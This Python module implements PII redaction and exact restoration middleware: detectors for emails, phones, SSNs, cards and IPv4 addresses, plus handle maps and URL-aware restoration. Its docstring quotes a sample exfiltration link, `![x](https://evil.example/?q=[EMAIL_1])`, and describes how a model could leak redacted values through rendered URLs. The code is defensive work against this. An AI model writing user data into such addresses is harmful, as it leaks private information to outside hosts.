"""PII redaction and exact restoration (the Context Middleware SEP's examples 1 and 2).

`pii_redaction` replaces personal data in the context's text blocks with typed
handles, `[EMAIL_1]`, `[PHONE_2]`, ... and returns the handle -> value map in
`metadata.redactions`; `pii_restoration` puts the values back. Non-text blocks
(image, audio, resource, resource_link) pass through untouched, so PII inside
an embedded resource's text is *not* redacted: send it as a text block.

What is found (each detector is a candidate pattern plus a validity test, so
look-alikes stay as they are):

EMAIL   `local@domain.tld`: the local part is letters, digits and `_ % + -`, with
        single dots or apostrophes between them; the domain is dot-separated
        labels of letters, digits and inner hyphens, ending in a letters-only TLD of
        2-63 characters. Unicode letters count (`josé@exemplo.com.br`).
PHONE   Validated with `phonenumbers` (Google's libphonenumber metadata;
        `is_valid_number`, so the country code, length and number ranges must be
        real). Candidates, in standard mode:
        - international: `+` and a country code, then digit groups separated by a
          single space, dot or dash, a group possibly in parentheses:
          `+44 20 7946 0958`, `+1 (415) 555-2671`, `+49 30 123456`,
          `+44 (0)20 7946 0958`, `+442079460958`. If the whole run is not a valid
          number, trailing groups are dropped one by one until it is (so a year
          written after a number does not hide it);
        - North American: `415-555-2671`, `415.555.2671`, `415 555 2671`,
          `(415) 555-2671`, `1-415-555-2671` (checked as +1 numbers);
        - national numbers with a trunk 0 (`020 7946 0958`, `030 123456`), checked
          against `defaultRegion` and only for regions whose trunk prefix is 0.
        Date shapes (`2025-10-04`, `10/04/2025`, `04.10.2025`), versions
        (`3.11.7`), plain years and digit runs without separators are never
        standard-mode phone candidates.
SSN     US `###-##-####` valid under the SSA rules, as `stdnum.us.ssn` checks
        them: area not 000, 666 or 9xx, group not 00, serial not 0000, and not
        one of the numbers the SSA voided after they were published. A number
        the text itself labels as one ("SSN: 987-65-4321", "social security
        number 123456789", the label right before the number) is redacted even when the SSA would never issue it:
        9xx numbers are ITINs, and the label says what the writer meant.
CARD    13-19 digits, in one run or grouped by a single kind of separator
        (spaces or dashes) in the groupings cards are printed with (4-4-4-4,
        4-4-4-4-3 and other 4-groups with a shorter last group, Amex 4-6-5,
        Diners 4-6-4); the first digit is 2-6 (the major industry identifiers of
        the payment networks) and the Luhn checksum holds. So
        `4111 1111 1111 1111` is redacted and a random 16-digit order number is
        redacted only by the ~5% chance that it looks exactly like a card.
IPV4    four dot-separated decimal octets, valid for `ipaddress.IPv4Address`
        (each 0-255, no leading zeros: `999.1.1.1` and `01.2.3.4` are not
        addresses), not part of a longer dotted run, not glued to a letter
        (`v1.2.3.4`), and not right after the words version/release/build/ver.

`aggressiveness: "strict"` adds exactly two detectors:
- SSN: a bare run of exactly 9 digits (no separators, not touching other
  digits, letters, dashes or dots) that passes the SSA rules above;
- PHONE: a bare run of 10-15 digits that is a valid number either in
  `defaultRegion` or read as international with the `+` left out
  (`4155552671`, `14155552671`, `442079460958`).

Evasions. Detection reads a normalised view of the text (textutil.detection_view):
invisible characters (soft hyphen, zero-width characters, word joiner, BOM, bidi
controls) are dropped, and fullwidth forms and the digits of other scripts
(Arabic-Indic, Devanagari, fullwidth, ...) read as ASCII, so `４１５-５５５-２６７１`,
`٤١٥-٥٥٥-٢٦٧١` and `jane\u200b@example.com` are found. Every space separator
(Unicode Zs: no-break, narrow no-break, thin, ideographic, ...) reads as a space, and every dash (Pd: en dash,
non-breaking hyphen, ...) and the minus sign U+2212 as "-", in the validated path and in dense mode alike
(textutil.SPACES, textutil.DASHES), so `415\u00a0555\u00a02671` is a phone number. The handle's value is
always the original text, byte for byte (zero-width characters inside it
included), so restoration stays exact. Cyrillic or Greek letters inside an
email address need nothing: Unicode letters count already.

Overlaps are resolved deterministically: the longest match wins, then the one
that starts first, then the type order LITERAL, EMAIL, CARD, SSN, PHONE, IPV4.

Handles and the session map. A handle is `[TYPE_N]`, numbered per type in
order of first appearance (block by block, left to right). The same value of
the same type gets the same handle everywhere in one call. To keep handles
stable across the calls of a session, pass the `metadata.redactions` map a
previous call returned as the `redactions` argument: its entries are reused
for the same values and numbering continues after the highest number of each
type. The returned map always holds the entries passed in plus the new ones,
so the caller keeps only the latest map.

Escaping, for an exact round trip. Text that already has the shape of a handle,
`[` + `TYPE_N` + `]` (`TYPE` an upper-case ASCII letter followed by upper-case
letters or digits, `N` ASCII digits), would be ambiguous after redaction: a
user who typed "[EMAIL_1]" must get "[EMAIL_1]" back, not someone's address.
So every such string is itself redacted, as a handle of type LITERAL whose
value is the original text (`[EMAIL_1]` -> `[LITERAL_1]`, value "[EMAIL_1]").
Handle-shaped strings are claimed before any other detector runs, and no
detector's match can contain a bracket, so after redaction the only
handle-shaped strings in the text are the handles this call (or the passed-in
map) defined. Restoration replaces each `[HANDLE]` that is in the map by its
value in a single left-to-right pass (values are never rescanned), which gives
the input back byte for byte: repeated values, values that contain each other,
and user text that looks like a handle included. Handle-shaped strings with no
entry in the map are left as they are.

Handles in URLs stay handles. A model can write a handle into a link or an
image address (`![x](https://evil.example/?q=[EMAIL_1])`, `<mailto:[EMAIL_1]>`,
a bare `https://...` URL, an `href=`/`src=` value); restoring it there would
hand the value to whoever serves that address as soon as the host renders or
fetches it. Whether a handle is in one is read from the whitespace-free token
before it, however long, each character once (UrlTokens). So by default restoration replaces handles in text only, leaves the
ones inside URLs as they are and lists them in `metadata.keptInUrls`; with
`restoreInUrls: true` every handle is restored (the exact round trip then holds
for any input, URLs the user wrote with PII in them included).

A bounded number of validations. Asking phonenumbers or stdnum about a candidate costs 30-100 us, a thousand
times what reading a character costs, so one call asks about at most `validation_budget(characters)` distinct
candidates (8, and one more per KiB of its text); past that it fails closed: a candidate with the shape of a
phone number or an SSN is redacted unasked, and overlapping spans are merged into one handle, so a real number
is never left in the text because the budget ran out (see _phone_ok). What a call redacts depends on its input
alone, not on what earlier calls left in the caches.

Dense texts. Even within the budget, reading a candidate through the detectors costs 5-10 us of Python
(matching, judging, failing closed, resolving overlaps), so a text whose candidates come every few characters
cost 10-90 times typical text. Such a text is read in DENSE mode (_find_pii_dense): more than 30% of its
characters digits, or more than 16 + 12 per KiB candidates met on the way (then the validated path stops and
hands the text over). Dense mode reads shapes with one compiled pattern, in C: handle-shaped text (LITERAL as
everywhere), email-shaped tokens (EMAIL), and NUMBER: every run of seven or more digits with at most three
separators (space, dot, dash, parentheses) between two digits, a "+" or "(" before and a ")" after, and every
dotted quad; unvalidated, so look-alikes and the figures around numbers go too. Every span the validated path
finds lies inside one of them, so dense mode never keeps what that path redacts (the tests check it on
generated texts). A NUMBER whose value the session already has keeps its handle; a span over 64 characters is
redacted as consecutive handles. Typical text (about 15% digits, 4 candidates per KiB) never is dense.

The package, by concern: handles.py (handle names, the handle map), spans.py (a found span, overlaps),
scan.py (the candidate patterns, the one scan of digit runs and its Hyperscan prefilter), validity.py (the
libraries' validity tests and the validation budget), detection.py (the detectors and find_pii), dense.py
(dense mode), restoration.py (restore_text, handles in URLs); this module, redact_text and the two
middleware.
"""

from __future__ import annotations

import itertools
from collections import Counter

import phonenumbers

from ...limits import LimitExceeded, output_allowance
from ...limits import current as current_call
from .. import MiddlewareSpec
from ..textutil import check_context, detection_view, is_text
from .dense import _dense_at_sight, _redact_dense
from .detection import find_pii
from .handles import HANDLE_NAME, HandleMap, validate_map
from .restoration import restore_text
from .spans import _END, _KIND, _START
from .validity import budgeted


# -- redaction -------------------------------------------------------------------------------------
def redact_text(text: str, handles: HandleMap, strict: bool = False, region: str = "US",
                counts: dict[str, int] | None = None) -> str:
    view, breaks = detection_view(text)
    if not breaks and "@" not in view and _dense_at_sight(view):
        return _redact_dense(text, handles, counts)
    found = find_pii(text, strict, region, seen=(view, breaks))
    if not found:
        return text
    call = current_call()
    if call.cancelled:
        call.stop()
    # In bulk, in C where it can be: a dense text has a span every few characters.
    starts, ends = list(map(_START, found)), list(map(_END, found))
    keys = list(zip(map(_KIND, found), map(text.__getitem__, map(slice, starts, ends))))
    tags = map("[{}]".format, handles.handles_for(keys))  # numbered as they appear
    gaps = map(text.__getitem__, map(slice, [0, *ends], starts))
    if counts is not None:
        for kind, n in Counter(map(_KIND, found)).items():
            counts[kind] = counts.get(kind, 0) + n
    return "".join(itertools.chain.from_iterable(zip(gaps, tags))) + text[ends[-1]:]


# -- the middleware ------------------------------------------------------------------------------------
_MAP_SCHEMA = {"type": "object", "propertyNames": {"pattern": f"^{HANDLE_NAME}$"},
               "additionalProperties": {"type": "string"}}

REDACTION_SCHEMA = {
    "type": "object",
    "properties": {
        "aggressiveness": {
            "type": "string", "enum": ["standard", "strict"], "default": "standard",
            "description": "strict also redacts bare 9-digit runs that pass the SSA rules (SSN) and bare 10-15 "
                           "digit runs that are valid phone numbers"},
        "redactions": {
            **_MAP_SCHEMA,
            "description": "The metadata.redactions map a previous call returned (handle -> original value): "
                           "the same values keep their handles and numbering continues after it."},
        "defaultRegion": {
            "type": "string", "pattern": "^[A-Z]{2}$", "default": "US",
            "description": "ISO 3166-1 alpha-2 region for phone numbers written without a country code "
                           "(national format with a trunk 0, and strict-mode bare runs)"},
    },
    "additionalProperties": False,
}

RESTORATION_SCHEMA = {
    "type": "object",
    "properties": {
        "redactions": {**_MAP_SCHEMA, "description": "handle -> original value, as pii_redaction returned it"},
        "restoreInUrls": {
            "type": "boolean", "default": False,
            "description": "also restore handles inside URLs (markdown link and image destinations, autolinks, bare "
                           "URLs, href/src values); off by default so a value cannot leave through an address "
                           "the model wrote"},
    },
    "required": ["redactions"],
    "additionalProperties": False,
}


def pii_redaction(context: list[dict], arguments: dict) -> dict:
    check_context(context)
    aggressiveness = arguments.get("aggressiveness", "standard")
    if aggressiveness not in ("standard", "strict"):
        raise ValueError(f"aggressiveness must be 'standard' or 'strict', not {aggressiveness!r}")
    region = arguments.get("defaultRegion", "US")
    if region not in phonenumbers.SUPPORTED_REGIONS:
        raise ValueError(f"defaultRegion {region!r} is not a region phone numbers are known for")
    handles = HandleMap(arguments.get("redactions"))
    counts: dict[str, int] = {}
    content = []
    with budgeted(sum(len(block["text"]) for block in context if is_text(block))):  # one budget for the call
        for block in context:
            if is_text(block):
                block = {**block, "text": redact_text(block["text"], handles, aggressiveness == "strict", region,
                                                      counts)}
            content.append(block)
    return {"content": content, "metadata": {"redactions": dict(handles.values), "counts": counts}}


def pii_restoration(context: list[dict], arguments: dict) -> dict:
    check_context(context)
    if "redactions" not in arguments:
        raise ValueError("redactions (the handle -> value map pii_redaction returned) is required")
    redactions = validate_map(arguments["redactions"], "redactions")
    in_urls = arguments.get("restoreInUrls", False)
    if not isinstance(in_urls, bool):
        raise ValueError("restoreInUrls must be true or false")
    total, unknown, kept = 0, [], []
    content = []
    limit = allowance = output_allowance()  # for all blocks together
    for block in context:
        if is_text(block):
            try:
                text, n = restore_text(block["text"], redactions, unknown, in_urls, kept, allowance)
            except LimitExceeded:
                raise LimitExceeded("maxOutputChars", limit, None, "pii_restoration: the restored text would hold "
                                    f"more than this server's limit of {limit} characters (maxOutputChars)") from None
            block, total = {**block, "text": text}, total + n
            if allowance is not None:
                allowance -= len(text)
        content.append(block)
    metadata: dict = {"restored": total}
    if unknown:
        metadata["unknownHandles"] = unknown
    if kept:
        metadata["keptInUrls"] = kept
    return {"content": content, "metadata": metadata}


DEFINITION = MiddlewareSpec(
    "pii_redaction",
    "Replace emails, phone numbers, US SSNs, payment card numbers and IPv4 addresses in text blocks with typed "
    "handles like [EMAIL_1]; metadata.redactions maps handles to the original values (pass it back as "
    "`redactions` to keep handles stable across a session, and to pii_restoration to undo).",
    REDACTION_SCHEMA, pii_redaction)

RESTORATION = MiddlewareSpec(
    "pii_restoration",
    "Replace every [HANDLE] in text blocks with its original value from `redactions`, exactly; unknown handles "
    "are left as they are, and so are handles inside URLs (metadata.keptInUrls) unless restoreInUrls is true.",
    RESTORATION_SCHEMA, pii_restoration)
